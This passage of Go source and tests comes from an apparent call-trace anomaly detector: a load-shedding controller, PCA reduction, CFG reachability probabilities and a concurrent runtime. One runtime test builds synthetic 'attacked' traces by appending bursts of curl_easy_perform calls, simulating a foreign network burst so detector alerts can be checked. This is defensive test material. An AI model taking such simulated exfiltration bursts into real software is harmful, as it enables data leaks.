			t.Fatalf("decision %d: admit=%v guaranteed=%v for alert-bearing session", i, d.Admit, d.Guaranteed)
		}
	}
	// The alert ages out after AlertMemory quiet windows.
	for i := 0; i < 4; i++ {
		sr.NoteJudgement(-1.0, false)
	}
	if r := sr.Risk(); r >= 1 {
		t.Fatalf("risk did not decay after AlertMemory windows: %v", r)
	}
}

func TestDeterministicReplay(t *testing.T) {
	script := func(seed uint64) []bool {
		c := New(Config{Seed: seed}, 1)
		srs := []*SessionRisk{c.NewSession("a"), c.NewSession("b"), c.NewSession("c")}
		var out []bool
		for i := 0; i < 300; i++ {
			sr := srs[i%len(srs)]
			occ := 0.80 + 0.19*float64(i%5)/4 // engaged, varying severity
			d := c.Decide(sr, 0, occ)
			if d.Admit {
				c.Admitted(sr, d, 1)
			} else {
				c.Shed(sr, d, 1)
			}
			out = append(out, d.Admit)
		}
		return out
	}
	a, b := script(42), script(42)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed diverged at decision %d", i)
		}
	}
	diff := false
	for i, v := range script(7) {
		if v != a[i] {
			diff = true
			break
		}
	}
	if !diff {
		t.Fatal("different seeds produced identical decision sequences")
	}
}

func TestShedRateTracksRisk(t *testing.T) {
	// At high occupancy, a low-risk session sheds far more often than a
	// drifting one.
	c := New(Config{Seed: 1}, 1)
	quiet := c.NewSession("quiet")
	drifty := c.NewSession("drifty")
	for i := 0; i < 50; i++ {
		quiet.NoteJudgement(-1.0, false)
		drifty.NoteJudgement(-1.0-0.05*float64(i), false) // sliding down
	}
	if rq, rd := quiet.Risk(), drifty.Risk(); rd <= rq {
		t.Fatalf("drift did not raise risk: quiet=%v drifty=%v", rq, rd)
	}
	shed := func(sr *SessionRisk) int {
		n := 0
		for i := 0; i < 500; i++ {
			d := c.Decide(sr, 0, 0.97)
			if d.Admit {
				c.Admitted(sr, d, 1)
			} else {
				c.Shed(sr, d, 1)
				n++
			}
		}
		return n
	}
	if sq, sd := shed(quiet), shed(drifty); sd >= sq {
		t.Fatalf("higher risk did not shed less: quiet=%d drifty=%d", sq, sd)
	}
}

func TestSensitiveTouchRaisesRisk(t *testing.T) {
	c := New(Config{SensitiveMemory: 8}, 1)
	sr := c.NewSession("s")
	for i := 0; i < 20; i++ {
		sr.NoteJudgement(-1.0, false)
	}
	base := sr.Risk()
	sr.NoteSensitive()
	touched := sr.Risk()
	if touched <= base {
		t.Fatalf("sensitive touch did not raise risk: %v -> %v", base, touched)
	}
	for i := 0; i < 8; i++ {
		sr.NoteJudgement(-1.0, false)
	}
	if decayed := sr.Risk(); decayed >= touched {
		t.Fatalf("sensitive component did not decay: %v -> %v", touched, decayed)
	}
}

func TestStarvationBoundsTimeSinceScored(t *testing.T) {
	c := New(Config{StarveLimit: 16, Seed: 3, MinAdmit: 1e-9}, 1)
	sr := c.NewSession("boring")
	for i := 0; i < 20; i++ {
		sr.NoteJudgement(-1.0, false)
	}
	// Full occupancy: without starvation pressure the admit probability is
	// ~MinAdmit ≈ 0, yet the session must be admitted within StarveLimit.
	admitted := -1
	for i := 0; i < 64; i++ {
		d := c.Decide(sr, 0, 1.0)
		if d.Admit {
			admitted = i
			break
		}
		c.Shed(sr, d, 1)
	}
	if admitted < 0 || admitted > 16 {
		t.Fatalf("starved session admitted at decision %d, want within StarveLimit=16", admitted)
	}
}

func TestSnapshotMissProbability(t *testing.T) {
	c := New(Config{}, 2)
	sr := c.NewSession("s")
	d := Decision{Risk: 0.5}
	c.Admitted(sr, d, 10) // 5.0 risk mass scored
	c.Shed(sr, d, 2)      // 1.0 risk mass shed
	s := c.Snapshot()
	if s.ShedCalls != 2 || s.ShedDecisions != 1 || s.AdmitDecisions != 1 {
		t.Fatalf("counts: %+v", s)
	}
	if got, want := s.MissProbability, 1.0/6.0; got < want-1e-9 || got > want+1e-9 {
		t.Fatalf("miss probability = %v, want %v", got, want)
	}
	if sr.ShedCalls() != 2 {
		t.Fatalf("session shed calls = %d, want 2", sr.ShedCalls())
	}
	// Engaged reflects any worker's latch.
	if c.Snapshot().Engaged {
		t.Fatal("engaged with no latched worker")
	}
	c.Decide(sr, 1, 0.99)
	if !c.Snapshot().Engaged {
		t.Fatal("snapshot missed worker 1's latch")
	}
}

func TestUnitRange(t *testing.T) {
	for n := uint64(0); n < 10000; n++ {
		u := unit(123, 456, n)
		if u < 0 || u >= 1 {
			t.Fatalf("unit out of [0,1): %v at n=%d", u, n)
		}
	}
}
