// Package pca implements principal component analysis for the Profile
// Constructor's state-reduction step (paper §IV-C4): the sparse
// call-transition vectors (CTVs) are projected to a low dimension before
// K-means clusters similar calls.
//
// Components are found by orthogonal (subspace) iteration on the covariance
// operator applied implicitly through the data matrix, so the d×d covariance
// is never materialised — the bash-scale programs have CTVs of dimension
// 2·(number of call sites) > 1800, where a dense eigensolver would dominate
// the training time the reduction is meant to save.
package pca

import (
	"errors"
	"fmt"
	"math"
	"math/rand"
)

// ErrBadInput reports degenerate input.
var ErrBadInput = errors.New("pca: bad input")

// Result is a fitted projection.
type Result struct {
	// Mean is the per-dimension mean removed before projection.
	Mean []float64
	// Components holds k orthonormal principal directions, each of length d.
	Components [][]float64
	// Eigenvalues are the corresponding covariance eigenvalues, descending.
	Eigenvalues []float64
}

// K returns the number of fitted components.
func (r *Result) K() int { return len(r.Components) }

// Fit computes the top-k principal components of data (rows are samples).
// k is clamped to min(d, samples).
func Fit(data [][]float64, k int) (*Result, error) {
	m := len(data)
	if m == 0 {
		return nil, fmt.Errorf("%w: no samples", ErrBadInput)
	}
	d := len(data[0])
	if d == 0 {
		return nil, fmt.Errorf("%w: zero-dimensional samples", ErrBadInput)
	}
	for i, row := range data {
		if len(row) != d {
			return nil, fmt.Errorf("%w: row %d has dim %d, want %d", ErrBadInput, i, len(row), d)
		}
	}
	if k <= 0 {
		return nil, fmt.Errorf("%w: k = %d", ErrBadInput, k)
	}
	if k > d {
		k = d
	}
	if k > m {
		k = m
	}

	mean := make([]float64, d)
	for _, row := range data {
		for j, v := range row {
			mean[j] += v
		}
	}
	for j := range mean {
		mean[j] /= float64(m)
	}

	// covTimes computes (1/m)·Xcᵀ·(Xc·q) for one column q without forming
	// the covariance.
	covTimes := func(q []float64) []float64 {
		out := make([]float64, d)
		mq := dot(mean, q)
		for _, row := range data {
			c := dot(row, q) - mq
			if c == 0 {
				continue
			}
			for j, v := range row {
				out[j] += c * (v - mean[j])
			}
		}
		inv := 1 / float64(m)
		for j := range out {
			out[j] *= inv
		}
		return out
	}

	// Orthogonal iteration from a deterministic random basis.
	r := rand.New(rand.NewSource(1))
	q := make([][]float64, k)
	for i := range q {
		q[i] = make([]float64, d)
		for j := range q[i] {
			q[i][j] = r.NormFloat64()
		}
	}
	orthonormalize(q)

	const iters = 50
	prev := math.Inf(1)
	var eig []float64
	for it := 0; it < iters; it++ {
		z := make([][]float64, k)
		for i := range q {
			z[i] = covTimes(q[i])
		}
		eig = make([]float64, k)
		for i := range z {
			eig[i] = dot(q[i], z[i])
		}
		orthonormalize(z)
		q = z
		var sum float64
		for _, e := range eig {
			sum += e
		}
		if math.Abs(sum-prev) < 1e-12*(1+math.Abs(sum)) {
			break
		}
		prev = sum
	}

	// Order by eigenvalue, descending.
	order := make([]int, k)
	for i := range order {
		order[i] = i
	}
	for i := 0; i < k; i++ {
		for j := i + 1; j < k; j++ {
			if eig[order[j]] > eig[order[i]] {
				order[i], order[j] = order[j], order[i]
			}
		}
	}
	res := &Result{Mean: mean, Components: make([][]float64, k), Eigenvalues: make([]float64, k)}
	for i, o := range order {
		res.Components[i] = q[o]
		res.Eigenvalues[i] = eig[o]
	}
	return res, nil
}

// Transform projects rows onto the fitted components.
func (r *Result) Transform(data [][]float64) [][]float64 {
	out := make([][]float64, len(data))
	mproj := make([]float64, r.K())
	for i, c := range r.Components {
		mproj[i] = dot(r.Mean, c)
	}
	for i, row := range data {
		p := make([]float64, r.K())
		for c, comp := range r.Components {
			p[c] = dot(row, comp) - mproj[c]
		}
		out[i] = p
	}
	return out
}

func dot(a, b []float64) float64 {
	var s float64
	for i := range a {
		s += a[i] * b[i]
	}
	return s
}

// orthonormalize runs modified Gram–Schmidt in place; rows that collapse to
// zero are replaced with fresh deterministic noise and re-orthogonalised.
func orthonormalize(rows [][]float64) {
	r := rand.New(rand.NewSource(2))
	for i := range rows {
		for j := 0; j < i; j++ {
			c := dot(rows[i], rows[j])
			for x := range rows[i] {
				rows[i][x] -= c * rows[j][x]
			}
		}
		n := math.Sqrt(dot(rows[i], rows[i]))
		if n < 1e-12 {
			for x := range rows[i] {
				rows[i][x] = r.NormFloat64()
			}
			for j := 0; j < i; j++ {
				c := dot(rows[i], rows[j])
				for x := range rows[i] {
					rows[i][x] -= c * rows[j][x]
				}
			}
			n = math.Sqrt(dot(rows[i], rows[i]))
			if n < 1e-12 {
				n = 1
			}
		}
		for x := range rows[i] {
			rows[i][x] /= n
		}
	}
}
