package pca

import (
	"errors"
	"math"
	"math/rand"
	"testing"
)

func TestFitRecoversDominantDirection(t *testing.T) {
	// Points along (1, 1)/√2 with tiny orthogonal noise: the first component
	// must align with the diagonal.
	r := rand.New(rand.NewSource(3))
	var data [][]float64
	for i := 0; i < 200; i++ {
		tt := r.NormFloat64() * 10
		noise := r.NormFloat64() * 0.01
		data = append(data, []float64{tt + noise, tt - noise})
	}
	res, err := Fit(data, 2)
	if err != nil {
		t.Fatalf("Fit: %v", err)
	}
	c := res.Components[0]
	align := math.Abs(c[0]*1/math.Sqrt2 + c[1]*1/math.Sqrt2)
	if align < 0.999 {
		t.Errorf("first component %v not aligned with diagonal (|cos| = %v)", c, align)
	}
	if res.Eigenvalues[0] < 50*res.Eigenvalues[1] {
		t.Errorf("eigenvalues not separated: %v", res.Eigenvalues)
	}
}

func TestComponentsOrthonormal(t *testing.T) {
	r := rand.New(rand.NewSource(5))
	data := make([][]float64, 60)
	for i := range data {
		row := make([]float64, 10)
		for j := range row {
			row[j] = r.NormFloat64()
		}
		data[i] = row
	}
	res, err := Fit(data, 4)
	if err != nil {
		t.Fatalf("Fit: %v", err)
	}
	for i := 0; i < res.K(); i++ {
		for j := 0; j < res.K(); j++ {
			got := dot(res.Components[i], res.Components[j])
			want := 0.0
			if i == j {
				want = 1
			}
			if math.Abs(got-want) > 1e-8 {
				t.Errorf("<c%d, c%d> = %v, want %v", i, j, got, want)
			}
		}
	}
	// Eigenvalues are sorted descending and non-negative (within tolerance).
	for i := 1; i < res.K(); i++ {
		if res.Eigenvalues[i] > res.Eigenvalues[i-1]+1e-9 {
			t.Errorf("eigenvalues out of order: %v", res.Eigenvalues)
		}
	}
}

func TestTransformCentersData(t *testing.T) {
	data := [][]float64{{1, 2}, {3, 4}, {5, 6}}
	res, err := Fit(data, 1)
	if err != nil {
		t.Fatalf("Fit: %v", err)
	}
	proj := res.Transform(data)
	var mean float64
	for _, p := range proj {
		if len(p) != 1 {
			t.Fatalf("projection dim = %d, want 1", len(p))
		}
		mean += p[0]
	}
	if math.Abs(mean/3) > 1e-9 {
		t.Errorf("projected mean = %v, want 0", mean/3)
	}
}

func TestTransformPreservesVarianceOrdering(t *testing.T) {
	// 3-D data with variance concentrated on axis 0: projecting to 1-D keeps
	// most variance.
	r := rand.New(rand.NewSource(7))
	var data [][]float64
	var rawVar float64
	for i := 0; i < 300; i++ {
		row := []float64{r.NormFloat64() * 5, r.NormFloat64() * 0.3, r.NormFloat64() * 0.2}
		rawVar += row[0] * row[0]
		data = append(data, row)
	}
	res, err := Fit(data, 1)
	if err != nil {
		t.Fatalf("Fit: %v", err)
	}
	proj := res.Transform(data)
	var projVar float64
	for _, p := range proj {
		projVar += p[0] * p[0]
	}
	if projVar < 0.9*rawVar {
		t.Errorf("1-D projection kept %.1f%% of dominant-axis variance", 100*projVar/rawVar)
	}
}

func TestKClamping(t *testing.T) {
	data := [][]float64{{1, 0, 0}, {0, 1, 0}}
	res, err := Fit(data, 10)
	if err != nil {
		t.Fatalf("Fit: %v", err)
	}
	if res.K() != 2 { // min(d=3, m=2)
		t.Errorf("K = %d, want 2", res.K())
	}
}

func TestFitErrors(t *testing.T) {
	cases := []struct {
		name string
		data [][]float64
		k    int
	}{
		{"no samples", nil, 2},
		{"zero dim", [][]float64{{}}, 1},
		{"ragged", [][]float64{{1, 2}, {1}}, 1},
		{"bad k", [][]float64{{1, 2}}, 0},
	}
	for _, tc := range cases {
		if _, err := Fit(tc.data, tc.k); !errors.Is(err, ErrBadInput) {
			t.Errorf("%s: err = %v, want ErrBadInput", tc.name, err)
		}
	}
}

func TestConstantDataDoesNotExplode(t *testing.T) {
	data := [][]float64{{1, 1}, {1, 1}, {1, 1}}
	res, err := Fit(data, 1)
	if err != nil {
		t.Fatalf("Fit: %v", err)
	}
	proj := res.Transform(data)
	for _, p := range proj {
		if math.Abs(p[0]) > 1e-9 {
			t.Errorf("constant data projected to %v, want 0", p[0])
		}
	}
}
