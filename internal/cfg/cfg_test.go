package cfg

import (
	"math"
	"reflect"
	"testing"

	"adprom/internal/dataset"
	"adprom/internal/ir"
	"adprom/internal/progen"
)

const eps = 1e-12

func approx(a, b float64) bool { return math.Abs(a-b) < eps }

// TestFig3MainReachability checks eq. 1 and eq. 2 against the values the
// paper derives for Figure 3's main(): P^r_B = 0.5 and P^r_E = 0.5.
func TestFig3MainReachability(t *testing.T) {
	p := dataset.Fig3()
	g, err := Analyze(p.Functions["main"])
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}

	want := []float64{1, 0.5, 0.5, 0.25, 0.25, 0.5, 1}
	for blk, w := range want {
		if !approx(g.Reach[blk], w) {
			t.Errorf("Reach[b%d] = %v, want %v", blk, g.Reach[blk], w)
		}
	}

	// Conditional probabilities: entry branches 0.5/0.5, straight lines 1.
	if !approx(g.CondProb(0, 1), 0.5) || !approx(g.CondProb(0, 2), 0.5) {
		t.Errorf("entry cond probs = %v, %v", g.CondProb(0, 1), g.CondProb(0, 2))
	}
	if !approx(g.CondProb(3, 4), 1) {
		t.Errorf("CondProb(C→D) = %v, want 1", g.CondProb(3, 4))
	}
	if !approx(g.CondProb(1, 3), 0) {
		t.Errorf("CondProb over non-edge = %v, want 0", g.CondProb(1, 3))
	}
	if got := g.ExitBlocks; !reflect.DeepEqual(got, []int{6}) {
		t.Errorf("ExitBlocks = %v, want [6]", got)
	}
}

func TestFig3FReachability(t *testing.T) {
	p := dataset.Fig3()
	g, err := Analyze(p.Functions["f"])
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	want := []float64{1, 0.5, 0.5, 0.25, 0.25}
	for blk, w := range want {
		if !approx(g.Reach[blk], w) {
			t.Errorf("Reach[b%d] = %v, want %v", blk, g.Reach[blk], w)
		}
	}
	if got := g.ExitBlocks; !reflect.DeepEqual(got, []int{1, 3, 4}) {
		t.Errorf("ExitBlocks = %v", got)
	}
}

// loopFunc builds entry → loop{body ⇄ loop} → done, the fig-1 shape.
func loopFunc(t *testing.T) *ir.Function {
	t.Helper()
	b := ir.NewBuilder("loopy")
	m := b.Func("main")
	entry := m.Block()
	loop := m.Block()
	body := m.Block()
	done := m.Block()
	entry.Goto(loop)
	loop.If(ir.V("c"), body, done)
	body.Call("printf", ir.S("x"))
	body.Goto(loop)
	done.Ret()
	return b.MustBuild().Functions["main"]
}

func TestBackEdgeRemoval(t *testing.T) {
	g, err := Analyze(loopFunc(t))
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if !g.Back[[2]int{2, 1}] {
		t.Errorf("body→loop not classified as back edge; Back = %v", g.Back)
	}
	if len(g.Back) != 1 {
		t.Errorf("Back = %v, want exactly one back edge", g.Back)
	}
	// The loop body becomes a DAG sink and therefore an exit.
	if got := g.ExitBlocks; !reflect.DeepEqual(got, []int{2, 3}) {
		t.Errorf("ExitBlocks = %v, want [2 3]", got)
	}
	// Reachability still distributes the loop header's mass.
	if !approx(g.Reach[1], 1) || !approx(g.Reach[2], 0.5) || !approx(g.Reach[3], 0.5) {
		t.Errorf("Reach = %v", g.Reach)
	}
}

func TestUnreachableBlocksAreIgnored(t *testing.T) {
	b := ir.NewBuilder("dead")
	m := b.Func("main")
	entry := m.Block()
	dead := m.Block()
	entry.Ret()
	dead.Call("printf", ir.S("never"))
	dead.Ret()
	g, err := Analyze(b.MustBuild().Functions["main"])
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if g.Reachable[1] {
		t.Error("dead block marked reachable")
	}
	if len(g.Topo) != 1 || g.Topo[0] != 0 {
		t.Errorf("Topo = %v, want [0]", g.Topo)
	}
	if !approx(g.Reach[1], 0) {
		t.Errorf("Reach[dead] = %v, want 0", g.Reach[1])
	}
}

func TestSelfLoop(t *testing.T) {
	b := ir.NewBuilder("self")
	m := b.Func("main")
	e := m.Block()
	e.Goto(e)
	g, err := Analyze(b.MustBuild().Functions["main"])
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if !g.Back[[2]int{0, 0}] {
		t.Errorf("self edge not a back edge: %v", g.Back)
	}
	if !reflect.DeepEqual(g.ExitBlocks, []int{0}) {
		t.Errorf("ExitBlocks = %v", g.ExitBlocks)
	}
}

func TestIfWithIdenticalTargets(t *testing.T) {
	b := ir.NewBuilder("same")
	m := b.Func("main")
	e := m.Block()
	next := m.Block()
	e.If(ir.V("c"), next, next)
	next.Ret()
	g, err := Analyze(b.MustBuild().Functions["main"])
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	// Two parallel edges fold into conditional probability 1.
	if !approx(g.CondProb(0, 1), 1) {
		t.Errorf("CondProb = %v, want 1", g.CondProb(0, 1))
	}
	if !approx(g.Reach[1], 1) {
		t.Errorf("Reach[1] = %v, want 1", g.Reach[1])
	}
}

// TestReachMassConservation is the structural property behind eq. 2: for any
// DAG, the probability mass flowing into the exit blocks sums to 1.
func TestReachMassConservation(t *testing.T) {
	progs := map[string]*ir.Function{
		"fig3-main": dataset.Fig3().Functions["main"],
		"fig3-f":    dataset.Fig3().Functions["f"],
		"loopy":     loopFunc(t),
	}
	for name, fn := range progs {
		g, err := Analyze(fn)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		var exitMass float64
		for _, b := range g.ExitBlocks {
			exitMass += g.Reach[b]
		}
		if !approx(exitMass, 1) {
			t.Errorf("%s: exit mass = %v, want 1", name, exitMass)
		}
	}
}

func TestEmptyFunctionRejected(t *testing.T) {
	if _, err := Analyze(&ir.Function{Name: "empty"}); err == nil {
		t.Fatal("Analyze accepted a function with no blocks")
	}
}

// TestReachMassConservationOnGeneratedPrograms sweeps the invariant over
// arbitrary structured CFGs from the program generator.
func TestReachMassConservationOnGeneratedPrograms(t *testing.T) {
	for seed := int64(0); seed < 30; seed++ {
		p := progen.Generate(progen.Config{Seed: seed, Functions: 5 + int(seed%4)})
		for _, name := range ir.FunctionNames(p) {
			g, err := Analyze(p.Functions[name])
			if err != nil {
				t.Fatalf("seed %d %s: %v", seed, name, err)
			}
			var exitMass float64
			for _, b := range g.ExitBlocks {
				exitMass += g.Reach[b]
			}
			if !approx(exitMass, 1) {
				t.Errorf("seed %d %s: exit mass %v", seed, name, exitMass)
			}
			// Topological order property: every DAG edge goes forward.
			pos := make(map[int]int, len(g.Topo))
			for i, b := range g.Topo {
				pos[b] = i
			}
			for u := range g.DagSuccs {
				for _, v := range g.DagSuccs[u] {
					if g.Reachable[u] && pos[u] >= pos[v] {
						t.Errorf("seed %d %s: edge %d->%d violates topo order", seed, name, u, v)
					}
				}
			}
		}
	}
}
