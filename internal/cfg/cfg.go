// Package cfg performs the probability-forecast half of AD-PROM's static
// analysis (paper §IV-C2).
//
// For each function it classifies CFG edges, removes back edges (the paper's
// static stage visits each node once; loops are learned later from traces by
// the HMM), topologically sorts the resulting DAG, and computes
//
//   - the conditional probability of each edge (eq. 1): 1 / out-degree of the
//     parent, counting DAG edges only, and
//   - the reachability probability of each block (eq. 2): the sum over its
//     DAG parents of parent reachability times edge conditional probability.
//
// Blocks with no outgoing DAG edges — Return blocks, and loop bodies whose
// only successor is a back edge — are treated as exits: the once-visited
// static walk of the function terminates there. This keeps the downstream
// call-transition matrix flow-conserving (the invariants of §IV-C3) on loopy
// functions, which the paper's worked example does not exercise.
package cfg

import (
	"errors"
	"fmt"

	"adprom/internal/ir"
)

// ErrIrreducible is returned when the entry block is unreachable from itself
// in a malformed way; kept for future structural checks.
var ErrIrreducible = errors.New("cfg: irreducible control flow")

// Graph is the analysed CFG of one function.
type Graph struct {
	Fn *ir.Function
	// Succs are all successor edges, back edges included.
	Succs [][]int
	// DagSuccs are the forward (non-back) edges used by eqs. 1 and 2.
	DagSuccs [][]int
	// DagPreds inverts DagSuccs.
	DagPreds [][]int
	// Back marks edges removed as back edges, keyed by [from, to].
	Back map[[2]int]bool
	// Reachable marks blocks reachable from the entry.
	Reachable []bool
	// Topo is a topological order of the reachable DAG blocks.
	Topo []int
	// Reach is the reachability probability P^r per block (eq. 2).
	Reach []float64
	// ExitBlocks lists blocks with no outgoing DAG edges, in block order.
	ExitBlocks []int
}

// Analyze computes the probability forecast for f.
func Analyze(f *ir.Function) (*Graph, error) {
	n := len(f.Blocks)
	if n == 0 {
		return nil, fmt.Errorf("cfg: function %q has no blocks", f.Name)
	}
	g := &Graph{
		Fn:        f,
		Succs:     make([][]int, n),
		DagSuccs:  make([][]int, n),
		DagPreds:  make([][]int, n),
		Back:      map[[2]int]bool{},
		Reachable: make([]bool, n),
		Reach:     make([]float64, n),
	}
	for i, blk := range f.Blocks {
		g.Succs[i] = blk.Term.Succs()
	}

	g.findBackEdges(0)

	for u := 0; u < n; u++ {
		if !g.Reachable[u] {
			continue
		}
		for _, v := range g.Succs[u] {
			if g.Back[[2]int{u, v}] {
				continue
			}
			g.DagSuccs[u] = append(g.DagSuccs[u], v)
			g.DagPreds[v] = append(g.DagPreds[v], u)
		}
	}

	if err := g.topoSort(); err != nil {
		return nil, err
	}
	g.computeReach()

	for _, u := range g.Topo {
		if len(g.DagSuccs[u]) == 0 {
			g.ExitBlocks = append(g.ExitBlocks, u)
		}
	}
	return g, nil
}

// findBackEdges runs an iterative DFS from entry, marking edges to blocks on
// the current DFS stack as back edges and recording reachability.
func (g *Graph) findBackEdges(entry int) {
	const (
		white = 0 // unvisited
		grey  = 1 // on stack
		black = 2 // done
	)
	color := make([]int, len(g.Succs))
	type item struct {
		node int
		next int
	}
	stack := []item{{node: entry}}
	color[entry] = grey
	g.Reachable[entry] = true
	for len(stack) > 0 {
		top := &stack[len(stack)-1]
		if top.next < len(g.Succs[top.node]) {
			v := g.Succs[top.node][top.next]
			top.next++
			switch color[v] {
			case white:
				color[v] = grey
				g.Reachable[v] = true
				stack = append(stack, item{node: v})
			case grey:
				g.Back[[2]int{top.node, v}] = true
			}
			continue
		}
		color[top.node] = black
		stack = stack[:len(stack)-1]
	}
}

// topoSort orders the reachable DAG blocks (Kahn's algorithm). DFS back-edge
// removal guarantees acyclicity, so a leftover is an internal bug.
func (g *Graph) topoSort() error {
	n := len(g.Succs)
	indeg := make([]int, n)
	reachCount := 0
	for u := 0; u < n; u++ {
		if !g.Reachable[u] {
			continue
		}
		reachCount++
		for _, v := range g.DagSuccs[u] {
			indeg[v]++
		}
	}
	var queue []int
	for u := 0; u < n; u++ {
		if g.Reachable[u] && indeg[u] == 0 {
			queue = append(queue, u)
		}
	}
	for len(queue) > 0 {
		u := queue[0]
		queue = queue[1:]
		g.Topo = append(g.Topo, u)
		for _, v := range g.DagSuccs[u] {
			indeg[v]--
			if indeg[v] == 0 {
				queue = append(queue, v)
			}
		}
	}
	if len(g.Topo) != reachCount {
		return fmt.Errorf("%w: %s: %d of %d blocks sorted", ErrIrreducible, g.Fn.Name, len(g.Topo), reachCount)
	}
	return nil
}

// CondProb returns the conditional probability of edge u→v (eq. 1):
// 1/out-degree over DAG edges, or 0 when the edge does not exist. An If with
// both targets equal contributes a single DAG edge of probability 1 (the two
// parallel edges merge).
func (g *Graph) CondProb(u, v int) float64 {
	deg := len(g.DagSuccs[u])
	if deg == 0 {
		return 0
	}
	count := 0
	for _, s := range g.DagSuccs[u] {
		if s == v {
			count++
		}
	}
	return float64(count) / float64(deg)
}

func (g *Graph) computeReach() {
	if len(g.Topo) == 0 {
		return
	}
	g.Reach[0] = 1 // entry
	for _, u := range g.Topo {
		if u == 0 {
			continue
		}
		var p float64
		seen := map[int]bool{}
		for _, parent := range g.DagPreds[u] {
			if seen[parent] {
				continue // parallel edges are folded into CondProb's count
			}
			seen[parent] = true
			p += g.Reach[parent] * g.CondProb(parent, u)
		}
		g.Reach[u] = p
	}
}
