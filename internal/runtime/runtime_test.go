package runtime

import (
	"errors"
	"fmt"
	"math"
	"reflect"
	"strings"
	"sync"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/faultinject"
	"adprom/internal/hmm"
	"adprom/internal/profile"
)

var appHOnce struct {
	sync.Once
	p      *profile.Profile
	traces []collector.Trace
	err    error
}

func trainAppH(t *testing.T) (*profile.Profile, []collector.Trace) {
	t.Helper()
	appHOnce.Do(func() {
		app := dataset.AppH()
		traces, err := app.CollectTraces(collector.ModeADPROM)
		if err != nil {
			appHOnce.err = err
			return
		}
		p, _, err := core.Train(app.Prog, traces, profile.Options{
			Train: hmm.TrainOptions{MaxIters: 6},
		})
		appHOnce.p, appHOnce.traces, appHOnce.err = p, traces, err
	})
	if appHOnce.err != nil {
		t.Fatal(appHOnce.err)
	}
	return appHOnce.p, appHOnce.traces
}

// streamSet builds a mixed corpus of normal and attacked (foreign-burst)
// streams so the equivalence test covers alerting and non-alerting paths.
func streamSet(traces []collector.Trace, n int) []collector.Trace {
	out := make([]collector.Trace, n)
	for i := range out {
		base := traces[i%len(traces)]
		if i%3 == 2 {
			mutated := append(collector.Trace{}, base...)
			for k := 0; k < 6; k++ {
				mutated = append(mutated, collector.Call{
					Label: "curl_easy_perform", Name: "curl_easy_perform", Caller: "main",
				})
			}
			out[i] = mutated
		} else {
			out[i] = base
		}
	}
	return out
}

// TestRuntimeMatchesSequentialMonitor drives 32 concurrent sessions through
// one shared Runtime/Profile (run under -race) and checks each session's
// alert history against the sequential Monitor baseline: identical alerts,
// with window scores from the incremental scorer within 1e-9 of the batch
// LogProb the Monitor path uses.
func TestRuntimeMatchesSequentialMonitor(t *testing.T) {
	p, traces := trainAppH(t)
	const sessions = 32
	streams := streamSet(traces, sessions)

	// Sequential baseline: a fresh Monitor per stream.
	want := make([][]detect.Alert, sessions)
	for i, tr := range streams {
		want[i] = core.NewMonitor(p, nil).ObserveTrace(tr)
	}

	rt := New(p, WithWorkers(4), WithQueueDepth(64))
	defer rt.Close()

	got := make([][]detect.Alert, sessions)
	errs := make([]error, sessions)
	var wg sync.WaitGroup
	var totalCalls uint64
	for i := 0; i < sessions; i++ {
		totalCalls += uint64(len(streams[i]))
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(fmt.Sprintf("session-%03d", i))
			for _, c := range streams[i] {
				if err := s.Observe(c); err != nil {
					errs[i] = err
					return
				}
			}
			got[i], errs[i] = s.Close()
		}(i)
	}
	wg.Wait()

	var wantAlerts uint64
	for i := 0; i < sessions; i++ {
		if errs[i] != nil {
			t.Fatalf("session %d: %v", i, errs[i])
		}
		if err := alertsEquivalent(got[i], want[i]); err != nil {
			t.Errorf("session %d diverged from sequential Monitor: %v", i, err)
		}
		wantAlerts += uint64(len(want[i]))
	}
	if wantAlerts == 0 {
		t.Fatal("baseline raised no alerts; the equivalence check is vacuous")
	}
	st := rt.Stats()
	if st.Calls != totalCalls || st.Dropped != 0 {
		t.Errorf("stats: calls=%d dropped=%d, want %d/0", st.Calls, st.Dropped, totalCalls)
	}
	if st.AlertTotal() != wantAlerts {
		t.Errorf("stats: %d alerts counted, want %d", st.AlertTotal(), wantAlerts)
	}
	if st.ActiveSessions != 0 || st.SessionsOpened != sessions {
		t.Errorf("stats: active=%d opened=%d, want 0/%d", st.ActiveSessions, st.SessionsOpened, sessions)
	}
}

// TestStreamScorerMatchesBatchOnCAApps is the acceptance check for the
// incremental scorer: on the bundled Hospital, Banking, and Supermarket apps,
// every sliding window of every trace scores identically (within 1e-9) under
// the per-session StreamScorer and the batch hmm.Model.LogProb.
func TestStreamScorerMatchesBatchOnCAApps(t *testing.T) {
	for _, app := range dataset.CAApps() {
		traces, err := app.CollectTraces(collector.ModeADPROM)
		if err != nil {
			t.Fatalf("%s: %v", app.Name, err)
		}
		p, _, err := core.Train(app.Prog, traces, profile.Options{
			Train:           hmm.TrainOptions{MaxIters: 2},
			MaxTrainWindows: 300,
		})
		if err != nil {
			t.Fatalf("%s: %v", app.Name, err)
		}
		w := p.WindowLen
		windows := 0
		for _, tr := range traces {
			st := p.NewStreamScorer(w)
			labels := tr.Labels()
			for i, l := range labels {
				got, done := st.Push(p.SymbolOf(l))
				if i < w-1 {
					if done {
						t.Fatalf("%s: premature window at %d", app.Name, i)
					}
					continue
				}
				if !done {
					t.Fatalf("%s: missing window at %d", app.Name, i)
				}
				want, err := p.Model.LogProb(p.Encode(labels[i-w+1 : i+1]))
				if err != nil {
					t.Fatal(err)
				}
				if math.Abs(got-want) > 1e-9 {
					t.Fatalf("%s window ending at %d: stream %v, batch %v", app.Name, i, got, want)
				}
				windows++
			}
		}
		if windows == 0 {
			t.Fatalf("%s: no full windows scored", app.Name)
		}
		t.Logf("%s: %d windows matched batch scoring", app.Name, windows)
	}
}

func TestRuntimeDropNewestShedsLoad(t *testing.T) {
	p, traces := trainAppH(t)
	gate := make(chan struct{})
	rt := New(p,
		WithWorkers(1), WithQueueDepth(1), WithDropPolicy(DropNewest),
		// Wedge the worker so the depth-1 queue must overflow. (A slow alert
